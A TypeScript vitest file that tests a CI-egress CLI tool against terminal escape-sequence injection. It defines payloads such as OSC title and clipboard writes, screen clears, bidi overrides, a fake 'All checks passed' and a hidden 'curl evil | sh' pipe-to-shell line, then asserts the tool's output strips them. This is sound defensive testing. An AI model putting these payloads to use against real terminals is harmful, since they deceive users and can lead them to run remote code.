import { readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { formatTable } from "../../../src/apps/cli/shared/table.ts";
import { inertLine, plain, toJsonText } from "../../../src/apps/cli/shared/terminal.ts";
import { formatDifference } from "../../../src/apps/cli/shared/unified-diff.ts";
import { egress, useFolder } from "../../support/cli.ts";
import { buildJobLog, called } from "../../support/job-log-builder.ts";

const folder = useFolder();

/** What a terminal obeys, hides or turns round; the line end and the tab are none of it. */
const obeyed = /(?![\n\t])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

/** Foreign texts that were, or might be, obeyed. */
const payloads: readonly [string, string][] = [
  ["a title", "\u001b]0;PWNED\u0007"],
  ["a cleared screen", "\u001b[2J\u001b[1;1H"],
  ["hidden text", "\u001b[8mcurl evil | sh\u001b[0m"],
  ["a green lie", "\u001b[32mAll checks passed\u001b[0m"],
  ["a sequence in a sequence", "\u001b\u001b[0m]0;PWNED\u0007\u001b\u001b[0m[2J\u001b\u001b[0m[31mFAKE"],
  ["a sequence in that one too", "\u001b\u001b\u001b[0m[0m[2J"],
  ["one of eight bits", "\u009b2J\u0090q\u009c\u009d0;PWNED\u009c"],
  ["a hyperlink", "\u001b]8;;https://evil.example\u001b\\docs\u001b]8;;\u001b\\"],
  ["a clipboard", "\u001b]52;c;ZXZpbA==\u0007"],
  ["a reversed text", "\u202elmy.ic\u202c"],
  ["an isolated direction", "\u2066x\u2069\u200f"],
  ["nothing to be seen", "a\u200bb\u2060c\ufeffd\u{e0041}"],
  ["lines that are none", "a\u2028b\u2029c\u0085d"],
  ["a line written over", "good\rbad\bworse"],
  ["the end of a text", "a\u0000b\u001a"],
];

function logWith(payload: string): string {
  const sha = "a".repeat(40);
  const log = buildJobLog({
    agent: [called(`x${payload}.example.org`, "9.9.9.9", { process: `npm ${payload}` })],
  });
  const lines = log.split("\n");
  const at = lines.findIndex((line) => line.includes("Complete job name:"));
  const stamp = (lines[at] ?? "").slice(0, 28);
  const foreign = [
    `${stamp} Uses: o/r/.github/workflows/${payload}.yml@refs/heads/${payload} (${sha})`,
    `${stamp} Complete job name: build ${payload}`,
  ];
  return [...lines.slice(0, at), ...foreign, ...lines.slice(at + 1)].join("\n");
}

function workflowWith(payload: string): string {
  return `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    # ${payload}
    steps:
      - uses: step-security/harden-runner@v2
        with:
          egress-policy: audit # ${payload}
      - run: make # ${payload}
`;
}

/** Those that leave a workflow file one that can be read, so that a difference shows them, and the others. */
const unreadable = ["lines that are none", "a line written over", "the end of a text"];
const readable = payloads.filter(([name]) => !unreadable.includes(name));
const together = (some: typeof payloads): string => some.map(([, payload]) => payload).join(" ");

describe.each([
  ["what a workflow file may hold", together(readable)],
  ["everything", together(payloads)],
])("%s is plain text", (_, payload) => {
  const log = folder.write("run.txt", logWith(payload));
  const workflow = folder.write("ci.yml", workflowWith(payload));
  const policy = folder.write(
    "policy.json",
    JSON.stringify({ jobs: { build: ["a.example.com:443"], [`x${payload}`]: ["b.example.com:443"] } }),
  );

  test.each([
    ["observe", [log]],
    ["observe as JSON", [log, "--json"]],
    ["recommend", [log]],
    ["recommend as JSON", [log, "--json"]],
    ["enforce", [workflow, "--policy", policy]],
    ["enforce as JSON", [workflow, "--policy", policy, "--json"]],
    ["check", [workflow]],
    ["check as JSON", [workflow, "--format", "json"]],
    ["check as SARIF", [workflow, "--format", "sarif"]],
  ])("in what %s prints", (command, args) => {
    const { stdout, stderr } = egress([command.split(" ")[0] ?? "", ...args], { env: { NO_COLOR: "1" } });
    expect(stdout + stderr).toMatch(/\S/);
    expect(`${stdout}${stderr}`).not.toMatch(obeyed);
  });

  test("in a name that is given", () => {
    const { stderr } = egress(["observe", `no-such-file${payload.replaceAll("\u0000", "")}`]);
    expect(stderr).toMatch(/\S/);
    expect(stderr).not.toMatch(obeyed);
  });
});

test.each(payloads)("%s is plain text on its own", (_, payload) => {
  const difference = formatDifference("ci.yml", workflowWith(payload), workflowWith("x"));
  for (const text of [plain(payload), inertLine(payload), toJsonText(payload), difference])
    expect(text).not.toMatch(obeyed);
});

const anything = fc.array(
  fc.oneof(fc.string({ unit: "binary" }), fc.constantFrom(...payloads.map(([, payload]) => payload))),
);

test("whatever is nested in what", () => {
  fc.assert(
    fc.property(anything, (parts) => {
      const text = parts.join("");
      expect(plain(text)).not.toMatch(obeyed);
      expect(inertLine(text).replace(/\r$/, "")).not.toMatch(obeyed);
      expect(formatTable(["a"], [[text]], { width: 80 })).not.toMatch(obeyed);
      const json = toJsonText({ [text]: text }, 2);
      expect(json).not.toMatch(obeyed);
      expect(JSON.parse(json)).toEqual({ [text]: text });
    }),
  );
});

test("a difference is that of the file where the file has nothing to obey", () => {
  const text = readFileSync(new URL("../../fixtures/workflows/few-words.yml", import.meta.url), "utf8");
  expect(text).not.toMatch(obeyed);
  const difference = formatDifference("ci.yml", text, `${text}# \u001b[2J\n`);
  expect(difference).toContain("+# \\u{1b}[2J\n");
});
